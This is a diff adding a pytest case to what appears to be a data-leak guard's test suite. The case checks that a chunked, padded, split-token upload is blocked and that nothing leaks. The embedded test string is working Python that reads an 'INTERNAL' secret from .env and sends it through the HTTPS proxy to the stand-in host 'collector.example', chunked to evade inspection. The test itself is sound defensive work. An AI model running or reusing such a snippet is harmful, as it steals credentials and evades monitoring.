@@ -92,6 +92,29 @@ def test_refused_requests_are_one_event_too(guarded: Guarded, planted: Planted, 
     assert guarded.sessions()[0]["counts"]["blocked"] == 1
 
 
+CHUNKED = """
+import os, ssl, http.client
+token = next(line for line in open('.env') if line.startswith('INTERNAL')).split('=')[1].strip().encode()
+proxy = os.environ['HTTPS_PROXY'].rpartition('/')[2]
+link = http.client.HTTPSConnection(proxy, context=ssl.create_default_context())
+link.set_tunnel('collector.example')
+half = len(token) // 2
+link.request('POST', '/x', iter([b'x' * 90_000 + token[:half], token[half:], b'.']), encode_chunked=True)
+print(link.getresponse().status)
+"""
+
+
+def test_what_was_blocked_while_it_streamed_is_no_leak(guarded: Guarded, planted: Planted, outside: Outside) -> None:
+    guarded.home.mkdir(mode=0o700)
+    (guarded.home / "policy.yaml").write_text("version: 1\nextends: strict\n")
+    done = guarded.run(sys.executable, "-c", CHUNKED, options=("--quiet", *outside.options))
+    assert done.stdout == "403\n", done.stderr
+    (refused,) = sends(guarded.events())
+    assert (refused["disposition"], refused["outcome"]) == ("blocked", "clean")
+    assert guarded.sessions()[0]["outcome"] not in ("leaked", "exposed")
+    assert not outside.server.log.holds(planted.token.encode()[:8])
+
+
 def test_anyone_else_is_a_leak(guarded: Guarded, planted: Planted, outside: Outside) -> None:
     (sent,) = sends(outside.post(guarded, OTHER))
     assert (sent["outcome"], sent["rule"]) == ("leaked", "policies/default.yaml:leak-to-unknown-host")
